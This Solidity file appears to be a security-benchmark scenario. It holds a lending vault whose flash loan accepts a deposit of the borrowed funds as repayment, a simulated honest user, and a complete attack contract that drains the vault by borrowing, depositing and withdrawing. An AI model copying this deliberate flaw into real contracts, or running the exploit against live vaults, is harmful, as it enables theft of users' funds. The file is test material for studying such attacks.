// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.35;

import "./Common.sol";

interface IOwnBorrower {
    function onOwnLoan(uint256 amount) external;
}

/// Lends for a call and asks only whether its balance is back; a deposit brings it back, too.
contract LendingVault {
    IERC20 public immutable asset;
    mapping(address => uint256) public balanceOf;

    event Deposit(address indexed who, uint256 amount);
    event Withdraw(address indexed who, uint256 amount);

    constructor(IERC20 asset_) {
        asset = asset_;
    }

    function flash(uint256 amount) external {
        uint256 before = asset.balanceOf(address(this));
        asset.transfer(msg.sender, amount);
        IOwnBorrower(msg.sender).onOwnLoan(amount);
        require(asset.balanceOf(address(this)) >= before, "repay");
    }

    function deposit(uint256 amount) external {
        asset.transferFrom(msg.sender, address(this), amount);
        balanceOf[msg.sender] += amount;
        emit Deposit(msg.sender, amount);
    }

    function withdraw(uint256 amount) external {
        balanceOf[msg.sender] -= amount;
        asset.transfer(msg.sender, amount);
        emit Withdraw(msg.sender, amount);
    }
}

/// Borrows and gives back, as honest people do.
contract HonestBorrower is IOwnBorrower {
    LendingVault private immutable vault;
    uint256 public rounds;

    constructor(LendingVault vault_) {
        vault = vault_;
    }

    function go(uint256 amount) external {
        vault.flash(amount);
        rounds++;
    }

    function onOwnLoan(uint256 amount) external {
        require(msg.sender == address(vault), "vault");
        vault.asset().transfer(address(vault), amount);
    }
}

contract FlashDepositScene is Scene {
    Token public usd;
    LendingVault public vault;
    HonestBorrower public borrower;

    constructor(Bank b, address t, address s) payable Scene(b, t, s) {
        usd = _usd();
        vault = new LendingVault(IERC20(address(usd)));
        borrower = new HonestBorrower(vault);
        usd.mint(address(vault), 2_200_000e18);
        _protect(address(vault));
        loot0 = IERC20(address(usd));
    }

    function enrol(address[] calldata users) external override {
        _arm(usd, users, 1_000_000e18, address(vault));
    }

    function menu(address who, uint256 dice) external view override returns (address, uint256, bytes memory) {
        uint256 kind = (dice >> 200) % 5;
        uint256 held = vault.balanceOf(who);
        if (kind == 0) return (address(borrower), 0, abi.encodeCall(HonestBorrower.go, (_amount(dice, 1e18, 900_000e18))));
        if (kind < 3 && held > 0) return (address(vault), 0, abi.encodeCall(LendingVault.withdraw, (held)));
        return (address(vault), 0, abi.encodeCall(LendingVault.deposit, (_amount(dice, 100e18, 20_000e18))));
    }
}

contract FlashDepositAttack is Attack, IOwnBorrower {
    LendingVault private immutable vault;

    constructor(FlashDepositScene scene) Attack(scene) {
        vault = scene.vault();
    }

    function _act(uint256, uint256 index, uint256 count) internal override {
        loot0.approve(address(vault), type(uint256).max);
        uint256 bite = loot0.balanceOf(address(vault)) / (count - index);
        vault.flash(bite);
        vault.withdraw(bite);
    }

    function onOwnLoan(uint256 amount) external {
        vault.deposit(amount);
    }
}
